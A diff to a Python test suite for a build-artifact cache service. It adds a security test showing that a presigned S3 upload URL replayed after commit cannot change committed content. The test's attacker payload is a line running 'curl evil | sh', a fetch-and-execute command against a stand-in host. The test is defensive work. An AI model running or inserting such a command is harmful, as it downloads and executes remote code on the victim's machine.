@@ -97,7 +97,8 @@ def test_a_put_for_a_blob_stored_before_the_version_is_409_and_restores_still_wo
 
 def test_a_blob_stored_by_a_concurrent_publish_is_answered_already_stored(client, app, storage):
     if storage.upload_target("probe", 60) is not None:
-        pytest.skip("presigned uploads go straight to the bucket (docs/security.md says what that allows)")
+        pytest.skip("presigned uploads land in each version's incoming folder, checked and moved at commit "
+                    "(test_a_presigned_url_replayed_after_commit_cannot_change_what_was_committed)")
     files = {"shared.so": bytes(range(256)) * 900}
     first, second = create(client, files), create(client, dict(files, other=b"o"), key(name="second"))
     assert {i["sha256"] for i in second["upload"]} >= {sha(files["shared.so"])}  # both were told to upload it
@@ -151,3 +152,33 @@ def test_a_recorded_pack_is_never_overwritten(client, app, storage):
                                                                              "size": len(fresh)}]})
         assert other.json["targets"][0]["target"]["url"].startswith("http")
         assert requests.put(other.json["targets"][0]["target"]["url"], data=fresh, timeout=30).status_code == 200
+
+
+@pytest.mark.s3
+@pytest.mark.parametrize("storage_settings", ["s3"], indirect=True)
+def test_a_presigned_url_replayed_after_commit_cannot_change_what_was_committed(client, app, storage, live_server,
+                                                                                tokens, tmp_path):
+    """A presigned PUT URL stays valid for PRESIGN_EXPIRES after its version commits. It names the
+    version's incoming folder, never the blob's key: commit checked the upload there and moved it into
+    place, so replaying the URL with other bytes writes only an incoming object that GC sweeps."""
+    victim = create(client, VICTIM, key(name="victim"))
+    [item] = victim["upload"]
+    url = item["targets"]["zstd"]["url"]
+    assert url.startswith("http") and "/v1/incoming/" in url
+    upload_zstd(client, victim, VICTIM)
+    assert commit(client, victim).json["status"] == "committed"
+    before = stored_state(app, storage, VICTIM_DIGEST)
+    assert not list(storage.iter_keys("v1/incoming/")), "commit moved the upload into place"
+
+    evil = zstandard.ZstdCompressor().compress(b"import os; os.system('curl evil | sh')\n")
+    assert requests.put(url, data=evil, timeout=30).status_code == 200  # the URL still works ...
+    assert stored_state(app, storage, VICTIM_DIGEST) == before  # ... but not on the committed object
+
+    fleet = CacheClient(live_server.url, tokens["read"], cache_dir=str(tmp_path / "fleet"), timeout=30)
+    report = fleet.restore("victim", key()["shape"], env=ENV, strict=True)
+    assert report.hit and not report.failed, report
+    assert (tmp_path / "fleet/graphs/victim.py").read_bytes() == VICTIM["graphs/victim.py"]
+
+    svc = app.extensions["cachesvc"]
+    assert svc.storage.sweep_incoming(older_than=0) == 1  # what GC does once the upload lease is over
+    assert not list(storage.iter_keys("v1/incoming/"))
